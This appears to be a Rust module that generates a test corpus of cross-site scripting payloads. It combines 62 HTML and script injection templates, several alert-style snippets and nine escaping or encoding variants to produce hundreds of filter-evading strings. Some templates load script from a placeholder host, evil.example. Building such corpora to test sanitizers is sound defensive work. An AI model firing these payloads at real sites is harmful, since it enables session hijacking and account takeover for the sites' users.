//! Texts that run a script where a page forgets to escape them: templates of HTML and script contexts, in several encodings.

use std::collections::BTreeSet;

/// What each tries to run.
const CODE: [&str; 8] = [
    "alert(1)",
    "alert`1`",
    "(alert)(1)",
    "top['al'+'ert'](1)",
    "setTimeout('alert(1)')",
    "[1].map(alert)",
    "import('data:text/javascript,alert(1)')",
    "window.onerror=alert;throw 1",
];

/// `@` is where the code goes.
const TEMPLATES: [&str; 62] = [
    "<script>@</script>",
    "</script><script>@</script>",
    "<ScRiPt >@</sCrIpT >",
    "<script src=\"data:text/javascript,@\"></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>@</script>",
    "<script/x>@</script/x>",
    "<<script>@//<</script>",
    "--><script>@</script>",
    "]]><script>@</script>",
    "</title><script>@</script>",
    "</textarea><script>@</script>",
    "</style><script>@</script>",
    "</noscript><script>@</script>",
    "</option></select><script>@</script>",
    "<img src=x onerror=@>",
    "<img src=x onerror=\"@\">",
    "\"><img src=x onerror=@>",
    "'><img src=x onerror=@>",
    "\"/><img src=x onerror=@ x=\"",
    "<img/src=x/onerror=@>",
    "<img src=x onerror=@//",
    "<image src=x onerror=@>",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><script href=\"data:text/javascript,@\"/></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributename=x>",
    "<svg><a xlink:href=\"javascript:@\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<math><a xlink:href=\"javascript:@\">x</a></math>",
    "<math href=\"javascript:@\">x</math>",
    "<body onload=@>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@>",
    "<x tabindex=1 autofocus onfocus=@>x</x>",
    "<details open ontoggle=@>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@>",
    "<marquee onstart=@>x</marquee>",
    "<iframe srcdoc=\"<script>@</script>\"></iframe>",
    "<iframe src=\"javascript:@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"data:text/html,<script>@</script>\">",
    "<a href=\"javascript:@\">x</a>",
    "<a href=\"java&#9;script:@\">x</a>",
    "<form action=\"javascript:@\"><button>x</button></form>",
    "<button formaction=\"javascript:@\">x</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<link rel=stylesheet href=//evil.example/x.css onload=@>",
    "<style onload=@></style>",
    "<base href=//evil.example/>",
    "\" onmouseover=\"@\" x=\"",
    "' autofocus onfocus='@' x='",
    "x onpointerenter=@ y",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=@>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@&gt;\">",
    "<template><script>@</script></template><img src=x onerror=@>",
    "javascript:@",
    "<div hx-get=/ hx-trigger=load hx-on::load=\"@\">${@}{{constructor.constructor('@')()}}</div>",
];

/// As it is, and as some reader between typing and showing may decode it once too often.
const ENCODINGS: [fn(&str) -> String; 9] = [
    str::to_owned,
    str::to_uppercase,
    |text| {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    },
    |text| text.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
    |text| {
        text.replace('<', "&#x3c;")
            .replace('>', "&#62")
            .replace('"', "&quot;")
    },
    |text| text.replace('<', "%3C").replace('>', "%3E").replace('"', "%22"),
    |text| {
        text.replace('<', "\\u003c")
            .replace('>', "\\x3e")
            .replace('"', "\\\"")
    },
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text| text.replace('<', "<\u{0}").replace(' ', "\u{b}"),
];

/// All of them, each once.
pub fn all() -> Vec<String> {
    let mut all = BTreeSet::new();
    for (at, template) in TEMPLATES.iter().enumerate() {
        for (turn, encode) in ENCODINGS.iter().enumerate() {
            all.insert(encode(&template.replace('@', CODE[(at + turn) % CODE.len()])));
        }
        all.insert(template.replace('@', CODE[0]));
    }
    all.into_iter().collect()
}

#[cfg(test)]
mod tests {
    #[test]
    fn there_are_many_and_each_fits_a_line() {
        let all = super::all();
        assert!(all.len() >= 500, "{}", all.len());
        assert!(all.iter().all(|text| text.chars().count() <= 300));
    }
}
